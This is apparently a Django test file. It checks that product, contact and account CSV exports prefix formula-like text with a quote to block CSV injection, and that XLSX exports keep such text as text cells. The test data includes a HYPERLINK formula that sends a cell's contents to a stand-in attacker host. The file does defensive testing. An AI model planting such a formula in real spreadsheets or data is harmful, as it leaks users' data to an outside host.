"""No CSV the hub writes carries a formula a spreadsheet program would evaluate (OWASP CSV
injection); XLSX exports keep such text as text cells."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import neutralise_formula
from tests.factories import AccountFactory, ContactFactory, ProductFactory

ATTACK = '=HYPERLINK("https://evil.example/?"&A2,"Details")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+49 170 1234567", "'+49 170 1234567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Muster AG", "Muster AG"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
        (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
    ],
)
def test_text_a_spreadsheet_would_evaluate_gets_a_quote_and_other_values_stay(value, written):
    assert neutralise_formula(value) == written


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.django_db
def test_the_product_listings_csv_export_neutralises_formulas(admin_client):
    ProductFactory(sku="-SKU-1", name=ATTACK, brand="@Hubwerk", gtin="4006381333931")

    response = admin_client.get(reverse("wagtailsnippets_content_product:list"), {"export": "csv"})

    [_headings, row] = csv_rows(response)
    assert row[:5] == ["'-SKU-1", "4006381333931", "'" + ATTACK, "'@Hubwerk", "False"]


@pytest.mark.django_db
def test_the_product_listings_xlsx_export_keeps_formulas_as_text_cells(admin_client):
    ProductFactory(name=ATTACK)

    response = admin_client.get(reverse("wagtailsnippets_content_product:list"), {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    name = sheet.cell(row=2, column=3)
    assert (name.value, name.data_type) == (ATTACK, "s")


@pytest.mark.django_db
def test_the_contact_and_account_csv_exports_neutralise_formulas(admin_client):
    account = AccountFactory(name=ATTACK, customer_number="-1", industry="+Maschinen")
    ContactFactory(account=account, first_name="=1+1", last_name="Muster")

    contacts = csv_rows(admin_client.get(reverse("contact:index"), {"export": "csv"}))
    accounts = csv_rows(admin_client.get(reverse("account:index"), {"export": "csv"}))

    assert contacts[1][1:4] == ["'=1+1", "Muster", f"'{ATTACK} (-1)"]
    assert accounts[1] == [
        "'" + ATTACK,
        "'-1",
        "",
        "",
        "'+Maschinen",
        "DE",
        "medium",
        "A",
        "1",
    ]
